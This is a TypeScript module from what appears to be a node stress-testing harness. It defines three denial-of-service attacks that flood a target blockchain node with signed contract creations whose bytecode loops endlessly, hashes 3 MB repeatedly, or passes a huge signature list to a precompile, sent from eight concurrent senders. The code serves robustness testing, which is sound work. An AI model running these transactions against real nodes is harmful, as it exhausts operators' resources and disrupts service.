/** Transactions that cost the node more than their sender, who has some coins. */

import { refBlockOf } from "../../../src/protocol/block.js";
import { fromHex, toHex } from "../../../src/protocol/bytes.js";
import { contractTypeByName } from "../../../src/protocol/contract-types.js";
import {
	CreateSmartContract,
	SmartContract,
	type SmartContractABI,
	Transaction,
} from "../../../src/protocol/messages.js";
import { addressOfPrivateKey, sign } from "../../../src/protocol/signature.js";
import { buildTransaction, SignedTransaction } from "../../../src/protocol/transaction.js";
import { ask } from "../ask.js";
import { type Attack, attackerHost, tally } from "../attack.js";
import { RICH_KEY } from "../template.js";
import type { Victim } from "../victim.js";
import { overlapping } from "./servers.js";

const SENDERS = 8;
const FEE_LIMIT_SUN = 1_000_000_000n;

export interface Head {
	readonly blockID: string;
	readonly block_header: { readonly raw_data: { readonly timestamp: number } };
}

/** The head of the attacked node. */
export async function headOf({ ports }: Victim): Promise<Head> {
	return JSON.parse(await ask(ports.http, "/wallet/getblock", '{"detail":false}')) as Head;
}

/** Sends a transaction. @returns the answer's code */
export async function send({ ports }: Victim, { bytes }: SignedTransaction, host: string): Promise<string> {
	const body = JSON.stringify({ transaction: toHex(bytes) });
	const answer = await ask(ports.http, "/wallet/broadcasthex", body, { host, timeoutMs: 30_000 }).catch(
		(error: Error) => `closed (${error.message})`,
	);
	return /"code":"(\w+)"/.exec(answer)?.[1] ?? answer.slice(0, 40);
}

/** A unique contract creation, by number, that runs some code. @param abi stored with it */
export function creation(
	head: Head,
	code: string,
	number: number,
	abi?: SmartContractABI,
): SignedTransaction {
	const contract = contractTypeByName("CreateSmartContract");
	if (!contract) throw new Error("there are no creations");
	const owner_address = addressOfPrivateKey(RICH_KEY);
	const new_contract = SmartContract.create({
		origin_address: owner_address,
		bytecode: fromHex(code),
		consume_user_resource_percent: 100n,
		origin_energy_limit: 1n,
		...(abi ? { abi } : {}),
	});
	const id = fromHex(head.blockID);
	const headMs = BigInt(head.block_header.raw_data.timestamp);
	const built = buildTransaction(contract, CreateSmartContract.create({ owner_address, new_contract }), {
		...refBlockOf(id),
		expirationMs: headMs + 600_000n,
		timestampMs: headMs + BigInt(number),
	});
	const raw_data = { ...built.raw, fee_limit: FEE_LIMIT_SUN } as never;
	const { id: hash } = new SignedTransaction(Transaction.create({ raw_data }));
	return new SignedTransaction(Transaction.create({ raw_data, signature: [sign(hash, RICH_KEY)] }));
}

function broadcasts(name: string, sends: string, code: string): Attack {
	return {
		name,
		sends,
		async run(victim: Victim, durationMs: number) {
			const head = await headOf(victim);
			const outcomes: string[] = [];
			const end = Date.now() + durationMs;
			let number = 0;
			const sender = async (n: number): Promise<void> => {
				while (Date.now() < end) {
					outcomes.push(await send(victim, creation(head, code, number++), attackerHost(n)));
				}
			};
			await Promise.all(Array.from({ length: SENDERS }, (_, n) => sender(n)));
			return tally(outcomes);
		},
	};
}

/** Repeatedly hashes three megabytes. */
const hashing = "5b6230000060002050600056";

export const transactions: readonly Attack[] = [
	broadcasts("broadcast-loop", "creations that loop until their time ends, from 8 senders", "5b600056"),
	broadcasts("broadcast-hash", "creations that hash 3 MB again and again", hashing),
	broadcasts(
		"broadcast-signatures",
		"creations that give 0x09 a list of 4,096 entries of 150 KB, all one",
		overlapping(9, 4096, 150_000),
	),
];
